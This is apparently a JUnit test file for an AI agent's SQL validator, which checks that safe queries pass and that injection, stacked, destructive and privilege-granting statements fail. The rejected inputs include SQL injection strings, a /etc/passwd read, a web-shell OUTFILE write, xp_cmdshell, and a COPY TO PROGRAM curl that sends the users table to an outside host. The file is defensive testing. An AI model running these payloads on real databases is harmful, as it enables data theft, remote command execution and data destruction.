package dev.toolgate.agent.validation.sql;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.toolgate.agent.validation.Verdict;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlValidatorTest {

    private final SqlValidator read = new SqlValidator(true, 100_000, 1_000, false);
    private final SqlValidator write = new SqlValidator(false, 100_000, 1_000, false);

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT id, name FROM customers WHERE region = 'EU'",
            "select count(*) from orders o join customers c on c.id = o.customer_id group by c.region",
            "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '7 days') SELECT count(*) FROM recent",
            "SELECT name FROM products ORDER BY price DESC LIMIT 10;",
            "SELECT a FROM t UNION SELECT b FROM u"})
    void readQueriesPassSqlRead(String sql) {
        Verdict verdict = read.check(sql);
        assertTrue(verdict.allowed(), sql + " -> " + verdict.reason());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "DELETE FROM orders WHERE id = 7",
            "SELECT 1; DROP TABLE users",
            "SELECT * INTO backup FROM users",
            "SELECT * FROM users WHERE name = '' OR '1'='1'",
            "SELECT * FROM users WHERE id = 1 OR 1=1 --",
            "SELECT load_file('/etc/passwd')",
            "SELECT pg_sleep(10)",
            "SELECT * FROM t INTO OUTFILE '/var/www/x.php'",
            "' OR 'x'='x",
            "UNION ALL SELECT password FROM users--",
            "SELECT * FROM t WHERE a = 'unterminated",
            ""})
    void writesStackingAndInjectionFailSqlRead(String sql) {
        assertFalse(read.check(sql).allowed(), sql);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "UPDATE orders SET status = 'shipped' WHERE id = 4711",
            "INSERT INTO audit(event) VALUES ('login')",
            "DELETE FROM sessions WHERE expires < now()",
            "ALTER TABLE users ADD COLUMN nickname varchar(40)"})
    void ordinaryWritesPassSql(String sql) {
        Verdict verdict = write.check(sql);
        assertTrue(verdict.allowed(), sql + " -> " + verdict.reason());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "DrOp/**/TaBlE users",
            "drop table if exists users",
            "TRUNCATE TABLE logs",
            "ALTER TABLE users DROP COLUMN email",
            "DELETE FROM users",
            "UPDATE users SET admin = true",
            "UPDATE users SET admin = true WHERE 1 = 1",
            "GRANT ALL PRIVILEGES ON db.* TO 'eve'@'%'",
            "EXEC xp_cmdshell 'whoami'",
            "COPY users TO PROGRAM 'curl -d @- http://x.example'",
            "INSERT INTO t VALUES (1); DELETE FROM t WHERE id = 1",
            "CREATE USER eve IDENTIFIED BY 'x'"})
    void destructiveStatementsFailSql(String sql) {
        assertFalse(write.check(sql).allowed(), sql);
    }

    @Test
    void hostileInputIsBounded() {
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            assertFalse(read.check("SELECT " + "(".repeat(10_000) + "1" + ")".repeat(10_000)).allowed());
            assertFalse(read.check("SELECT 1 FROM t WHERE a IN (" + "SELECT (".repeat(40) + "1"
                    + ")".repeat(80)).allowed());
            assertFalse(read.check("SELECT '" + "x".repeat(200_000) + "'").allowed());
            assertFalse(read.check("SELECT 1\0").allowed());
        });
    }
}
